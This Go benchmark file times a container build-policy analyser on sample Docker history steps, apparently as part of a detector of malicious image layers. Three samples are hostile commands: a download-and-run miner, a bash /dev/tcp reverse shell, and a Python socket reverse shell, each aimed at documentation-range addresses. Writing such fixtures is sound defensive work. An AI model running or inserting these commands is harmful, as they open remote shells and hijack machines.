package policy

import (
	"fmt"
	"strings"
	"testing"

	"buildguard.dev/buildguard/internal/proccpu"
)

// benchSteps are build steps of the shapes official images and attacks
// use, written for this benchmark: a multi-arch case statement with
// verified downloads, build args, a long apt-get, a reverse shell, a
// miner, variables and a heredoc-free continuation.
func benchSteps() []string {
	var arches strings.Builder
	for _, a := range []string{"amd64", "arm64", "armhf", "i386", "ppc64el", "riscv64", "s390x", "mips64el"} {
		fmt.Fprintf(&arches, "\t\t'%s') url='https://dl.example.org/tool/1.2.3/tool-linux-%s.tar.gz'; sha256='%s' ;; \\\n", a, a, strings.Repeat("0a", 32))
	}
	return []string{
		"/bin/sh -c #(nop) ADD file:5f3c0e1b in / ",
		`/bin/sh -c #(nop)  CMD ["bash"]`,
		"/bin/sh -c #(nop)  ENV TOOL_VERSION=1.2.3",
		"RUN /bin/sh -c set -eux; \tarch=\"$(dpkg --print-architecture)\"; arch=\"${arch##*-}\"; url=; \tcase \"$arch\" in \\\n" + arches.String() +
			"\t\t*) echo >&2 \"unsupported: $arch\"; exit 1 ;; \tesac; \twget -O tool.tgz.asc \"$url.asc\"; wget -O tool.tgz \"$url\"; \techo \"$sha256 *tool.tgz\" | sha256sum -c -; " +
			"\tGNUPGHOME=\"$(mktemp -d)\"; export GNUPGHOME; gpg --batch --verify tool.tgz.asc tool.tgz; tar -C /usr/local -xzf tool.tgz; rm tool.tgz # buildkit",
		"|3 GID=1000 UID=1000 USER=app /bin/sh -c set -ex; apt-get update; apt-get install -y --no-install-recommends ca-certificates curl gnupg dirmngr xz-utils libatomic1 " +
			strings.Repeat("libexample-dev ", 40) + "; rm -rf /var/lib/apt/lists/*; groupadd -g \"$GID\" \"$USER\"; useradd -u \"$UID\" -g \"$GID\" -m \"$USER\"",
		`RUN /bin/sh -c u=http://203.0.113.9/p; wget -qO /usr/bin/p "$u" && chmod +x /usr/bin/p && /usr/bin/p -o 198.51.100.7:3333 # buildkit`,
		"RUN /bin/sh -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # buildkit",
		`RUN /bin/sh -c python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",7678));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' # buildkit`,
		"/bin/sh -c #(nop) WORKDIR /app",
		`/bin/sh -c #(nop)  ENTRYPOINT ["docker-entrypoint.sh"]`,
	}
}

// BenchmarkAnalyzeStep measures the analysis of one build step, averaged
// over benchSteps, with a realistic trusted list. ns/op is per step.
func BenchmarkAnalyzeStep(b *testing.B) {
	trusted, err := ParseSources([]string{"deb.debian.org", "dl.example.org", "github.com/tianon/gosu/releases/download/"})
	if err != nil {
		b.Fatal(err)
	}
	steps := benchSteps()
	b.ReportAllocs()
	// CPU time per step, the garbage collector's included, says more than
	// ns/op on a machine other work shares.
	cpu0, ok := proccpu.Self()
	for i := 0; b.Loop(); i++ {
		AnalyzeStep(steps[i%len(steps)], trusted)
	}
	if cpu1, ok1 := proccpu.Self(); ok && ok1 {
		b.ReportMetric(float64(cpu1-cpu0)/float64(b.N), "cpu-ns/op")
	}
}

// BenchmarkAnalyzeHistory measures one whole image: benchSteps as its
// history, and a config. ns/op is per image of len(benchSteps()) steps.
func BenchmarkAnalyzeHistory(b *testing.B) {
	trusted, err := ParseSources([]string{"deb.debian.org", "dl.example.org"})
	if err != nil {
		b.Fatal(err)
	}
	var h []History
	for _, s := range benchSteps() {
		h = append(h, History{CreatedBy: s})
	}
	cfg := RunConfig{Env: []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "TOOL_VERSION=1.2.3"}, Entrypoint: []string{"docker-entrypoint.sh"}, Cmd: []string{"app"}}
	b.ReportAllocs()
	cpu0, ok := proccpu.Self()
	for b.Loop() {
		AnalyzeHistory(h, cfg, trusted)
	}
	if cpu1, ok1 := proccpu.Self(); ok && ok1 {
		b.ReportMetric(float64(cpu1-cpu0)/float64(b.N), "cpu-ns/op")
	}
	b.ReportMetric(float64(len(h)), "steps/op")
}
